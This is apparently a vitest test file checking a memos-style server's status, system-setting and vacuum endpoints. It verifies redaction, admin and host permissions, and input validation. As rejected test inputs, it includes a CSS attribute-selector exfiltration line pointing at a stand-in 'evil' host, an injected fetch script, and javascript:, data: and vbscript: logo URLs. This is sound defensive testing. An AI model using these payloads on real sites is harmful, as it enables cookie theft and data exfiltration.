// /api/ping, /api/status and /api/system/*: what the public sees, settings validation, and vacuum.
import { statSync } from "node:fs";
import { SERVER_VERSION } from "@memos/common";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { expectError } from "../expect.js";
import { anonymous, createMemo, createUser, signUpHost, type TestUser } from "../factories.js";
import { createTestApp, TEST_DRIVER, type TestApp } from "../harness.js";

let t: TestApp;
beforeEach(async () => {
  // A fresh app per test; their queries run on the main thread (`--sqlite-readers 0`, a supported setting): a
  // reader thread per app cost a third of this file's time, and the reader path is covered by the list suites.
  t = await createTestApp({ sqliteReaders: 0 });
});
afterEach(() => t.close());

const setting = (user: TestUser, name: string, value: unknown, raw = false) =>
  user.client.post("/api/system/setting", { name, value: raw ? value : JSON.stringify(value) });

describe("ping and status", () => {
  // v0 clients gate features on `version`: it stays the memos release whose v0 API we speak, and ours goes beside it.
  const PROFILE = { mode: "prod", version: "0.10.2", serverVersion: SERVER_VERSION };

  it("/api/ping exposes mode and both versions, and no filesystem path", async () => {
    const response = await anonymous(t).get("/api/ping");
    expect(response.status).toBe(200);
    expect(response.body).toEqual({ data: PROFILE });
    expect(response.text).not.toContain(t.ctx.config.data);
  });

  it("/api/status before any host: defaults and a null host", async () => {
    const response = await anonymous(t).get("/api/status");
    expect(response.status).toBe(200);
    expect(response.body.data).toEqual({
      host: null,
      profile: PROFILE,
      dbSize: 0,
      allowSignUp: false,
      disableWebhooks: false,
      disableMcp: false,
      disableComments: false,
      memoHistory: { enabled: true, keepAllDays: 30, dailyDays: 365 },
      trashRetentionDays: 30,
      mapTiles: { url: "https://tile.openstreetmap.org/{z}/{x}/{y}.png", attribution: "© OpenStreetMap contributors" },
      additionalStyle: "",
      additionalScript: "",
      customizedProfile: { name: "memos", logoUrl: "", description: "", locale: "en", appearance: "system", externalUrl: "" },
    });
  });

  it("never leaks paths, the dsn or internal settings", async () => {
    const host = await signUpHost(t);
    for (const client of [anonymous(t), host.client]) {
      const response = await client.get("/api/status");
      expect(response.body.data.profile).toEqual(PROFILE);
      expect(response.text).not.toContain(t.ctx.config.data);
      expect(response.text).not.toContain(t.ctx.config.dsn);
      expect(response.text).not.toMatch(/serverId|secretSessionName|"dsn"|"port"/);
    }
  });

  it("shows dbSize only to the host and admins", async () => {
    const host = await signUpHost(t);
    const admin = await createUser(t, host, "anadmin", "ADMIN");
    const member = await createUser(t, host, "member");
    expect((await host.client.get("/api/status")).body.data.dbSize).toBeGreaterThan(0);
    expect((await admin.client.get("/api/status")).body.data.dbSize).toBeGreaterThan(0);
    expect((await member.client.get("/api/status")).body.data.dbSize).toBe(0);
    expect((await anonymous(t).get("/api/status")).body.data.dbSize).toBe(0);
  });

  it.runIf(TEST_DRIVER === "sqlite")("counts the SQLite write-ahead log in dbSize", async () => {
    const host = await signUpHost(t);
    for (let i = 0; i < 20; i++) await createMemo(host, `memo ${i} ${"x".repeat(2000)}`, "PRIVATE");
    const file = t.ctx.config.dsn;
    const onDisk = () => statSync(file).size + (statSync(`${file}-wal`, { throwIfNoEntry: false })?.size ?? 0);
    const before = onDisk();
    const dbSize = (await host.client.get("/api/status")).body.data.dbSize;
    // Written memos sit in the log until a checkpoint, so the file alone is smaller than the database.
    expect(statSync(`${file}-wal`).size).toBeGreaterThan(0);
    expect(dbSize).toBeGreaterThan(statSync(file).size);
    expect([before, onDisk()]).toContain(dbSize);
  });

  it("reflects saved settings, and answers the host redacted", async () => {
    const host = await signUpHost(t);
    await setting(host, "allowSignUp", true);
    await setting(host, "additionalStyle", "body { color: red }");
    await setting(host, "additionalScript", "console.log(1)");
    const profile = {
      name: "My memos",
      logoUrl: "https://x/logo.png",
      description: "d",
      locale: "fr",
      appearance: "dark",
      externalUrl: "https://x",
    };
    await setting(host, "customizedProfile", profile);
    const status = (await anonymous(t).get("/api/status")).body.data;
    expect(status).toMatchObject({
      allowSignUp: true,
      additionalStyle: "body { color: red }",
      additionalScript: "console.log(1)",
      customizedProfile: profile,
    });
    expect(status.host).toMatchObject({ id: host.user.id, username: "host", email: "", openId: "" });
  });
});

describe("POST /api/system/setting", () => {
  it("upserts each accepted setting and answers the capitalised SystemSetting", async () => {
    const host = await signUpHost(t);
    const response = await host.client.post("/api/system/setting", { name: "allowSignUp", value: "true", description: "open doors" });
    expect(response.status).toBe(200);
    expect(response.body.data).toEqual({ Name: "allowSignUp", Value: "true", Description: "open doors" });
    const again = await host.client.post("/api/system/setting", { name: "allowSignUp", value: "false" });
    expect(again.body.data).toEqual({ Name: "allowSignUp", Value: "false", Description: "" });
    expect((await anonymous(t).get("/api/status")).body.data.allowSignUp).toBe(false);
    for (const [name, value] of [
      ["additionalStyle", ""],
      ["additionalScript", "alert(1)"],
      ["customizedProfile", {}],
      ["customizedProfile", { name: "only a name" }],
    ] as const) {
      expect((await setting(host, name, value)).status).toBe(200);
    }
  });

  it("is for the host and admins only", async () => {
    const host = await signUpHost(t);
    const admin = await createUser(t, host, "anadmin", "ADMIN");
    const member = await createUser(t, host, "member");
    expect((await setting(admin, "allowSignUp", true)).status).toBe(200);
    expectError(await setting(member, "allowSignUp", false), 403);
    expectError(await anonymous(t).post("/api/system/setting", { name: "allowSignUp", value: "false" }), 401);
    expect((await anonymous(t).get("/api/status")).body.data.allowSignUp).toBe(true);
  });

  it("additionalScript and additionalStyle are the host's alone: they reach the host's browser too", async () => {
    const host = await signUpHost(t);
    const admin = await createUser(t, host, "anadmin", "ADMIN");
    expectError(await setting(admin, "additionalScript", "fetch('/api/user/1', {method: 'PATCH'})"), 403);
    // CSS alone can exfiltrate what a page shows (attribute selectors with background URLs).
    expectError(await setting(admin, "additionalStyle", "input[value^=a]{background:url(//evil/a)}"), 403);
    const status = (await anonymous(t).get("/api/status")).body.data;
    expect([status.additionalScript, status.additionalStyle]).toEqual(["", ""]);
    expect((await setting(host, "additionalScript", "console.log(1)")).status).toBe(200);
    expect((await setting(host, "additionalStyle", "body{}")).status).toBe(200);
    const after = (await anonymous(t).get("/api/status")).body.data;
    expect([after.additionalScript, after.additionalStyle]).toEqual(["console.log(1)", "body{}"]);
    // The other settings stay open to admins.
    expect((await setting(admin, "allowSignUp", true)).status).toBe(200);
  });

  it.each([
    ["allowSignUp", '"true"'],
    ["allowSignUp", "1"],
    ["allowSignUp", "yes"],
    ["allowSignUp", ""],
    ["additionalStyle", "body{}"],
    ["additionalStyle", "42"],
    ["additionalScript", "null"],
    ["additionalScript", "{}"],
    ["customizedProfile", '"a string"'],
    ["customizedProfile", "[]"],
    ["customizedProfile", "null"],
    ["customizedProfile", '{"locale": "xx"}'],
    ["customizedProfile", '{"appearance": "blue"}'],
    ["customizedProfile", '{"name": 5}'],
    ["customizedProfile", '{"logoUrl": "javascript:alert(document.cookie)"}'],
    ["customizedProfile", '{"logoUrl": "JavaScript:alert(1)"}'],
    ["customizedProfile", '{"logoUrl": "data:text/html,<script>alert(1)</script>"}'],
    ["customizedProfile", '{"logoUrl": "data:image/svg+xml;base64,PHN2Zy8+"}'],
    ["customizedProfile", '{"logoUrl": "//evil.example/logo.png"}'],
    ["customizedProfile", '{"logoUrl": "/\\\\evil.example/logo.png"}'],
    ["customizedProfile", '{"logoUrl": "vbscript:x"}'],
    ["serverId", '"11111111-1111-1111-1111-111111111111"'],
    ["secretSessionName", '"stolen"'],
    ["somethingElse", "true"],
  ])("refuses %s = %s with 400 system setting invalidate", async (name, value) => {
    const host = await signUpHost(t);
    const before = await t.ctx.store.db.selectFrom("system_setting").selectAll().orderBy("name").execute();
    expectError(await setting(host, name, value, true), 400, /^system setting invalidate/);
    expect(await t.ctx.store.db.selectFrom("system_setting").selectAll().orderBy("name").execute()).toEqual(before);
  });

  it.each([
    "https://cdn.example.com/logo.png",
    "http://intranet.local/logo.svg",
    "/o/r/1/logo.png",
    "data:image/png;base64,iVBORw0KGgo=",
    "",
  ])("accepts the logo %j", async (logoUrl) => {
    const host = await signUpHost(t);
    expect((await setting(host, "customizedProfile", { name: "Mine", logoUrl })).status).toBe(200);
    expect((await anonymous(t).get("/api/status")).body.data.customizedProfile.logoUrl).toBe(logoUrl);
  });

  it("never serves an unsafe logo stored before the rule existed", async () => {
    await signUpHost(t);
    const value = JSON.stringify({ name: "Old", logoUrl: "javascript:alert(1)" });
    await t.ctx.store.db.insertInto("system_setting").values({ name: "customizedProfile", value, description: "" }).execute();
    const profile = (await anonymous(t).get("/api/status")).body.data.customizedProfile;
    expect(profile).toMatchObject({ name: "Old", logoUrl: "" });
  });

  it("names the reason for internal keys", async () => {
    const host = await signUpHost(t);
    expectError(await setting(host, "serverId", "x"), 400, "system setting invalidate: update server id is not allowed");
    expectError(await setting(host, "secretSessionName", "x"), 400, "system setting invalidate: invalid system setting name");
  });

  it.each([
    ["{}"],
    ['{"name": "allowSignUp"}'],
    ['{"name": "allowSignUp", "value": true}'],
    ['{"name": 1, "value": "true"}'],
    ["not json"],
  ])("answers 400 for the malformed body %s", async (payload) => {
    const host = await signUpHost(t);
    const response = await t.app.inject({
      method: "POST",
      url: "/api/system/setting",
      payload,
      headers: { "content-type": "application/json", cookie: host.client.cookie! },
    });
    expect(response.statusCode).toBe(400);
    expect(JSON.parse(response.body).error).toMatch(/^code=400, message=/);
  });
});

describe("GET /api/system/setting", () => {
  it("lists the settings for the host and admins, never the internal keys", async () => {
    const host = await signUpHost(t);
    await t.ctx.store.db
      .insertInto("system_setting")
      .values({ name: "secretSessionName", value: '"very-secret"', description: "" })
      .execute();
    await setting(host, "allowSignUp", true);
    const admin = await createUser(t, host, "anadmin", "ADMIN");
    for (const client of [host.client, admin.client]) {
      const response = await client.get("/api/system/setting");
      expect(response.status).toBe(200);
      expect(response.body.data).toEqual([{ Name: "allowSignUp", Value: "true", Description: "" }]);
      expect(response.text).not.toMatch(/serverId|secretSessionName|very-secret/);
    }
    // The rows exist; they are only hidden.
    const names = (await t.ctx.store.db.selectFrom("system_setting").select("name").execute()).map((r) => r.name);
    expect(names).toEqual(expect.arrayContaining(["serverId", "secretSessionName"]));
  });

  it("refuses users (403) and anonymous callers (401)", async () => {
    const host = await signUpHost(t);
    const member = await createUser(t, host, "member");
    expectError(await member.client.get("/api/system/setting"), 403);
    expectError(await anonymous(t).get("/api/system/setting"), 401);
  });
});

describe("POST /api/system/vacuum", () => {
  it("is admin-only and answers {data: true}", async () => {
    const host = await signUpHost(t);
    const admin = await createUser(t, host, "anadmin", "ADMIN");
    const member = await createUser(t, host, "member");
    expectError(await member.client.post("/api/system/vacuum"), 403);
    expectError(await anonymous(t).post("/api/system/vacuum"), 401);
    for (const client of [host.client, admin.client]) {
      const response = await client.post("/api/system/vacuum");
      expect(response.status).toBe(200);
      expect(response.body).toEqual({ data: true });
    }
  });

  it("removes rows whose owner is gone and keeps everything else", async () => {
    const host = await signUpHost(t);
    const memo = await createMemo(host, "kept #tag", "PUBLIC");
    const db = t.ctx.store.db;
    const ghost = 4242;
    const orphanMemo = await db
      .insertInto("memo")
      .values({ creator_id: ghost, content: "orphan" })
      .returning("id")
      .executeTakeFirstOrThrow();
    const orphanResource = await db
      .insertInto("resource")
      .values({ creator_id: ghost, filename: "o.txt", blob: Buffer.from("x"), type: "text/plain", size: 1 })
      .returning("id")
      .executeTakeFirstOrThrow();
    await db.insertInto("shortcut").values({ creator_id: ghost, title: "orphan", payload: "[]" }).execute();
    await db.insertInto("user_setting").values({ user_id: ghost, key: "locale", value: '"en"' }).execute();
    await db.insertInto("tag").values({ name: "orphan", creator_id: ghost }).execute();
    await db
      .insertInto("session")
      .values({
        id: "orphan-session",
        user_id: ghost,
        created_ts: 1,
        expires_ts: 9_999_999_999,
        public_id: "orphan",
        user_agent: "",
        address: "",
        last_active_ts: 1,
      })
      .execute();
    await db.insertInto("memo_organizer").values({ memo_id: memo.id, user_id: ghost, pinned: 1 }).execute();
    await db.insertInto("memo_organizer").values({ memo_id: 99_999, user_id: host.user.id, pinned: 1 }).execute();
    await db.insertInto("memo_resource").values({ memo_id: memo.id, resource_id: 99_999 }).execute();
    await db.insertInto("memo_resource").values({ memo_id: orphanMemo.id, resource_id: orphanResource.id }).execute();

    expect((await host.client.post("/api/system/vacuum")).status).toBe(200);

    expect(await db.selectFrom("memo").select("id").execute()).toEqual([{ id: memo.id }]);
    expect(await db.selectFrom("resource").select("id").execute()).toEqual([]);
    expect(await db.selectFrom("shortcut").select("id").execute()).toEqual([]);
    expect(await db.selectFrom("user_setting").select("key").execute()).toEqual([]);
    expect(await db.selectFrom("tag").select("name").execute()).toEqual([{ name: "tag" }]);
    expect((await db.selectFrom("session").select("user_id").execute()).every((row) => row.user_id === host.user.id)).toBe(true);
    expect(await db.selectFrom("memo_organizer").select("id").execute()).toEqual([]);
    expect(await db.selectFrom("memo_resource").select("memo_id").execute()).toEqual([]);
    // The host still works, memo and session intact.
    expect((await host.client.get(`/api/memo/${memo.id}`)).body.data.content).toBe("kept #tag");
  });
});
